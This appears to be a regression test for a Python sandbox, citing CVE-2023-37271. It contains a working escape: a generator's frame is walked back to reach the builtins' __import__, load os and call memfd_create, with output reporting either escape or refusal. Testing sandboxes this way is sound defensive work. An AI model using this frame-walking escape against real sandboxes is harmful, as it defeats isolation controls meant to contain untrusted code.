# expect: done
# idea: let a generator hand out its own frame while it runs, so that f_back leads to its caller's caller
# source: CVE-2023-37271
def tick(ctx):
    def walker():
        yield walking.gi_frame.f_back.f_back.f_back

    walking = walker()
    frame = [*walking][0]
    while frame.f_back is not None:
        frame = frame.f_back
    try:
        os = frame.f_builtins["__import__"]("os")
        print("ESCAPED: made", os.memfd_create("x"))
    except Exception as error:
        print("refused:", error)
